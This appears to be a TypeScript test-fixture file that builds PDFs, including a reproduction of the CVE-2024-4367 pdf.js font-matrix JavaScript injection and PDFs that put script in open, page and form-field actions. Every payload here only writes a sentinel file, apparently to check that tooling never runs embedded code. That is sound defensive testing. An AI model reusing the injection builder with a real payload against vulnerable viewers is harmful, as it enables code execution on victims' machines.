/**
 * Hand-built PDFs: a plain one-page document, and hostile ones that try to run code: the CVE-2024-4367 font-matrix injection (a Type1 font
 * whose /FontMatrix smuggles JavaScript into the glyph compiler of vulnerable pdf.js), and the
 * document/field JavaScript actions (/OpenAction, /AA, /Names /JavaScript) a viewer might run.
 * Every payload writes a sentinel file (visible from any thread) and sets a global.
 */
/** A JavaScript payload that leaves a trace if it ever runs, anywhere in the process. */
export function sentinelPayload(sentinelFile: string): string {
  return `globalThis.__promiseAuditPwned = 1; process.getBuiltinModule('fs').writeFileSync('${sentinelFile}', 'pwned');`;
}

/** Escapes text for a PDF literal string. */
function pdfString(text: string): string {
  return `(${text.replace(/[\\()]/g, (c) => `\\${c}`)})`;
}

/** Assembles numbered objects (1-based, in order) into a PDF with a correct xref table. */
export function buildPdf(objects: readonly (string | Buffer)[], trailerExtra = ''): Uint8Array {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(offset);
    const chunk = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, 'latin1'),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    parts.push(chunk);
    offset += chunk.length;
  });
  const xref = [`xref\n0 ${objects.length + 1}\n`, '0000000000 65535 f \n', ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${offset}\n%%EOF\n`, 'latin1'));
  return new Uint8Array(Buffer.concat(parts));
}

function stream(dict: string, data: Buffer): Buffer {
  return Buffer.concat([Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream', 'latin1')]);
}

/**
 * CVE-2024-4367, shaped like the published proof of concept: a Type1 font (with a CFF program
 * that will not load, so pdf.js falls back to drawing glyph paths) whose /FontMatrix ends in a
 * string that closes the generated `c.transform(...)` call and runs the payload; the text is
 * painted with a pattern, which forced that path-drawing code in vulnerable versions.
 */
export function fontMatrixInjectionPdf(sentinelFile: string, visibleText: string): Uint8Array {
  const injection = `(1\\);\n${sentinelPayload(sentinelFile).replace(/[()]/g, (c) => `\\${c}`)}\n//)`;
  const content = Buffer.from(
    `/Pattern cs /P1 scn\nBT /F1 48 Tf 50 600 Td (AbCdEf) Tj ET\nBT /F2 14 Tf 72 500 Td ${pdfString(visibleText)} Tj ET`,
    'latin1',
  );
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ' +
      '/Resources << /Font << /F1 5 0 R /F2 8 0 R >> /Pattern << /P1 9 0 R >> >> >>',
    stream('', content),
    `<< /Type /Font /Subtype /Type1 /BaseFont /PAXEKO+SourceSansPro-Bold /FirstChar 65 /LastChar 102 ` +
      `/Widths [573 0 582 0 548 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 573 0 573 0 341] ` +
      `/Encoding /WinAnsiEncoding /FontDescriptor 6 0 R /FontMatrix [0.1 0 0 0.1 0 ${injection}] >>`,
    '<< /Type /FontDescriptor /FontName /PAXEKO+SourceSansPro-Bold /Flags 32 /FontBBox [-6 -12 579 713] ' +
      '/ItalicAngle 0 /Ascent 751 /Descent -173 /CapHeight 713 /StemV 100 /MissingWidth 250 /FontFile3 7 0 R >>',
    stream('/Subtype /Type2', Buffer.alloc(0)),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    '<< /Type /Pattern /PatternType 2 /Shading << /ShadingType 2 /ColorSpace /DeviceRGB /Coords [46 400 537 400] ' +
      '/Function << /FunctionType 2 /Domain [0 1] /C0 [0 0 1] /C1 [1 0.6 0] /N 1 >> >> >>',
  ]);
}

/** JavaScript in every place a viewer might run it: open action, document names tree, a form field's actions. */
export function scriptActionsPdf(sentinelFile: string, visibleText: string): Uint8Array {
  const js = pdfString(`app.alert(1); ${sentinelPayload(sentinelFile)}`);
  const content = Buffer.from(`BT /F1 14 Tf 72 720 Td ${pdfString(visibleText)} Tj ET`, 'latin1');
  return buildPdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(init) 6 0 R] >> >> /AcroForm << /Fields [7 0 R] >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /Annots [7 0 R] /AA << /O 6 0 R >> >>',
    stream('', content),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    `<< /Type /Action /S /JavaScript /JS ${js} >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (x) /Rect [72 600 300 620] /P 3 0 R /AA << /K 6 0 R /F 6 0 R /V 6 0 R /C 6 0 R >> >>`,
  ]);
}

/** A one-page PDF with each of `lines` set in Helvetica, 20 pt apart. */
export function simpleTextPdf(lines: readonly string[]): Uint8Array {
  const text = lines.map((l, i) => `BT /F1 12 Tf 72 ${720 - i * 20} Td ${pdfString(l)} Tj ET`).join('\n');
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    stream('', Buffer.from(text, 'latin1')),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
  ]);
}
